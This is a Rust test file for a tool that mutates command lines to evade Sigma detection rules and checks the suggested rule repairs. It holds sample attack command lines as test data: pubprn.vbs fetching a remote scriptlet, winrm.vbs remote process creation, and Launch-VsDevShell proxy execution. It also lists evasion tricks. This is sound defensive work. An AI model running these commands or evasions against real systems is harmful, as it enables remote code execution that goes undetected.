//! Every repair that is offered does what it says, and is the nearest one.

use super::pack::matrix;
use cutout_core::analyze::{OwnRule, Request, RuleChoice, analyze};
use cutout_core::report::Verdict;
use cutout_core::report::advice::Evasion;

/// Every repair that is offered, as the user would have it: the rule with the new text in place of
/// the old one still matches the event, and the mutated line where nothing else broke. Gives how
/// many there are.
pub fn check_repairs(evasion: &Evasion, text: &str, event: usize) -> usize {
    let with = |rule: &str, text: &str, event: usize| {
        let analyzer = analyze(Request {
            text: text.to_owned(),
            rules: RuleChoice {
                own: vec![OwnRule {
                    key: "own".to_owned(),
                    text: rule.to_owned(),
                    language: None,
                }],
                ..RuleChoice::default()
            },
            ..Request::default()
        });
        analyzer.verdict(event, 0)
    };
    let mut checked = 0;
    for row in &evasion.rows {
        let broke = &row.cells[0].broke;
        for repair in broke.iter().filter_map(|broken| broken.repair.as_ref()) {
            let new = &repair.patch.text;
            assert_eq!(with(new, text, event), Some(Verdict::Match), "{new}");
            assert!(repair.patch.after.contains(&(event as u32)));
            assert!(repair.score.survived >= evasion.scores[0].survived, "{new}");
            assert_eq!(repair.score.of, evasion.scores[0].of);
            if broke.len() == 1 && text == evasion.line && row.mutation != "renamed_program" {
                assert_eq!(
                    with(new, &row.logged, 0),
                    Some(Verdict::Match),
                    "{}\n{new}",
                    row.logged
                );
                assert!(repair.score.survived > evasion.scores[0].survived);
            }
            assert!(!repair.patch.added.is_empty());
            checked += 1;
        }
    }
    checked
}

/// The value of each predicate that a mutation breaks, and the title of its repair.
fn repairs(rule: &str, text: &str, mutation: &str) -> Vec<(String, String)> {
    let evasion = matrix(rule, text, 0);
    let (mutation, variant) = mutation.split_once(": ").unwrap_or((mutation, ""));
    let rows = evasion.rows.iter();
    let broke = rows
        .filter(|row| row.mutation == mutation && row.title.ends_with(variant))
        .flat_map(|row| &row.cells[0].broke);
    broke
        .map(|broken| {
            let title = broken.repair.as_ref().map(|repair| repair.title.clone());
            (broken.predicate.value.clone(), title.unwrap_or_default())
        })
        .collect()
}

#[test]
fn the_nearest_repair_is_offered() {
    let pubprn = r"cscript //b C:\x\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct";
    let winrm = r#"cscript C:\x\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="calc.exe"} -r:http://192.0.2.1:5985"#;
    let shell = r"powershell -f .\Launch-VsDevShell.ps1 -VsWherePath C:\x\calc.exe";
    for (rule, text, mutation, value, title) in [
        (
            "pubprn.yml",
            pubprn,
            "forward_slashes",
            r"\pubprn.vbs",
            "Take forward slashes, too",
        ),
        (
            "pubprn.yml",
            pubprn,
            "without_folder",
            r"\pubprn.vbs",
            "Drop the folder",
        ),
        (
            "pubprn.yml",
            pubprn,
            "without_extension",
            r"\pubprn.vbs",
            "Drop the extension",
        ),
        (
            "winrm_remote_execution.yml",
            winrm,
            "switch_mark",
            "-r:http",
            "Take every mark in front of the switch (windash)",
        ),
        (
            "winrm_remote_execution.yml",
            winrm,
            "abbreviation: in full",
            "-r:http",
            "Take the switch by its other names",
        ),
        (
            "winrm_remote_execution.yml",
            winrm,
            "abbreviation: short",
            "invoke Create wmicimv2/Win32_",
            "Drop the verbs",
        ),
        (
            "launch_vsdevshell.yml",
            shell,
            "abbreviation: short",
            "VsWherePath ",
            "Take any beginning of the parameter's name",
        ),
        (
            "launch_vsdevshell.yml",
            shell,
            "joined_value",
            "VsWherePath ",
            "Take any beginning of the parameter's name",
        ),
        (
            "launch_vsdevshell.yml",
            shell,
            "short_name",
            "Launch-VsDevShell.ps1",
            "",
        ),
    ] {
        let found = repairs(rule, text, mutation);
        assert_eq!(
            found,
            [(value.to_owned(), title.to_owned())],
            "{rule} {mutation}"
        );
    }
}

#[test]
fn a_repair_is_written_in_the_words_of_sigma() {
    let text = r#"cscript C:\x\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="calc.exe"} -r:http://192.0.2.1:5985"#;
    let evasion = matrix("winrm_remote_execution.yml", text, 0);
    let row = evasion
        .rows
        .iter()
        .find(|row| row.mutation == "switch_mark")
        .unwrap();
    let repair = row.cells[0].broke[0].repair.as_ref().unwrap();
    assert!(
        repair
            .patch
            .text
            .contains("CommandLine|windash|contains|all:"),
        "{}",
        repair.patch.text
    );
    let values: Vec<&str> = repair.becomes.iter().map(|one| &*one.value).collect();
    assert_eq!(
        values,
        ["-r:http", "/r:http", "–r:http", "—r:http", "―r:http"]
    );
}
